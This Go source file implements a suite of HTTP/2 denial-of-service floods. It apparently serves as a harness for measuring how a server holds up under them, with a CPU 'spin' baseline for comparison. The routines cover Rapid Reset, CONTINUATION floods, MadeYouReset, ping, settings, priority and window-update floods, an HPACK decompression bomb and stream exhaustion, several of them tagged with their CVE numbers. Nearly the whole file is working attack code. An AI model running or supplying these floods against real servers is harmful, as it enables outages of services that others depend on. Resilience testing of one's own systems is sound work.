package main

import (
	"bytes"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// CVE-2023-44487.
func rapidReset(c *connection) error {
	return c.flood(func() error {
		id, err := c.headers(streamPackets, false, true)
		if err != nil {
			return err
		}
		return c.framer.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// Calls that end at once, so that they are not limited by how many are open at a time.
func calls(c *connection) error {
	return c.flood(func() error {
		_, err := c.headers(streamPackets, true, true)
		return err
	})
}

// CVE-2024-27316: a header block that never ends, of no bytes.
func emptyContinuations(c *connection) error {
	id, err := c.headers(streamPackets, false, false)
	if err != nil {
		return err
	}
	return c.flood(func() error { return c.framer.WriteContinuation(id, false, nil) })
}

// The same of 8 KiB each: literal header fields that are not indexed.
func bigContinuations(c *connection) error {
	id, err := c.headers(streamPackets, false, false)
	if err != nil {
		return err
	}
	field := append([]byte{0x00, 0x01, 'x', 0x7f, 0x81, 0x3e}, make([]byte, 8192-64)...)
	for index := 6; index < len(field); index++ {
		field[index] = 'a'
	}
	return c.flood(func() error { return c.framer.WriteContinuation(id, false, field) })
}

// CVE-2019-9512.
func pings(c *connection) error {
	return c.flood(func() error { return c.framer.WritePing(false, [8]byte{1}) })
}

// CVE-2019-9515.
func settingsFlood(c *connection) error {
	return c.flood(func() error {
		return c.framer.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 16384})
	})
}

// CVE-2019-9518.
func emptyData(c *connection) error {
	id, err := c.headers(streamPackets, false, true)
	if err != nil {
		return err
	}
	return c.flood(func() error { return c.framer.WriteData(id, false, nil) })
}

// On a connection with a call, so that no deadline is in the way.
func windowUpdates(c *connection) error {
	if _, err := c.headers(streamPackets, false, true); err != nil {
		return err
	}
	// Beyond 2^31-1 the window itself is the fault (RFC 9113 section 6.9.1), so this is one by one.
	return c.flood(func() error { return c.framer.WriteWindowUpdate(0, 1) })
}

func priorities(c *connection) error {
	if _, err := c.headers(streamPackets, false, true); err != nil {
		return err
	}
	return c.flood(func() error { return priority(c) })
}

// The same, slower, on a connection without a call: it is over at a deadline.
func idlePriorities(c *connection) error {
	return c.flood(func() error {
		if c.sent%64 == 0 {
			time.Sleep(time.Millisecond)
		}
		return priority(c)
	})
}

func priority(c *connection) error {
	return c.framer.WritePriority(1001, http2.PriorityParam{StreamDep: 1, Weight: 7})
}

// CVE-2025-8671: the processor is made to reset streams, which stops the counting of open ones.
func madeYouReset(c *connection) error {
	return c.flood(func() error {
		id, err := c.headers(healthCheck, false, true)
		if err != nil {
			return err
		}
		return c.framer.WriteWindowUpdate(id, 0)
	})
}

// DATA of one byte each, which is less than a message begins with.
func smallData(c *connection) error {
	id, err := c.headers(streamPackets, false, true)
	if err != nil {
		return err
	}
	return c.flood(func() error { return c.framer.WriteData(id, false, []byte{0}) })
}

func unknownFrames(c *connection) error {
	if _, err := c.headers(streamPackets, false, true); err != nil {
		return err
	}
	return c.flood(func() error { return c.framer.WriteRawFrame(0xbe, 0, 1, nil) })
}

// Headers of more bytes than the processor said it takes, in few bytes of HPACK: one long field enters
// the table of the decoder, and each of its uses is one byte (a "HPACK bomb").
func headerLists(c *connection) error {
	var text bytes.Buffer
	encoder := hpack.NewEncoder(&text)
	field := hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 3900)}
	if err := encoder.WriteField(field); err != nil {
		return err
	}
	first := append([]byte(nil), text.Bytes()...)
	uses := bytes.Repeat([]byte{0x80 | 62}, 16<<10-len(first)-100)
	return c.flood(func() error {
		id := c.next
		c.next += 2
		list := append(append(block(healthCheck), first...), uses...)
		return c.framer.WriteHeaders(http2.HeadersFrameParam{
			StreamID: id, BlockFragment: list, EndStream: true, EndHeaders: true,
		})
	})
}

// The same as too-many-streams without an end.
func openStreams(c *connection) error {
	return c.flood(func() error {
		_, err := c.headers(streamPackets, false, true)
		return err
	})
}

// More streams at a time than the processor said it takes, each a call that lasts.
func tooManyStreams(c *connection) error {
	for range 500 {
		if _, err := c.headers(streamPackets, false, true); err != nil {
			return err
		}
		c.sent++
	}
	return c.flush()
}

// spin is no attack: it uses as much processor time as a flood does, beside the processor, not in it.
func spin(s settings, r *result) error {
	buffer := make([]byte, 64<<10)
	for until := time.Now().Add(s.lasts); time.Now().Before(until); r.Sent++ {
		for index := range buffer {
			buffer[index] ^= byte(index)
		}
	}
	return nil
}
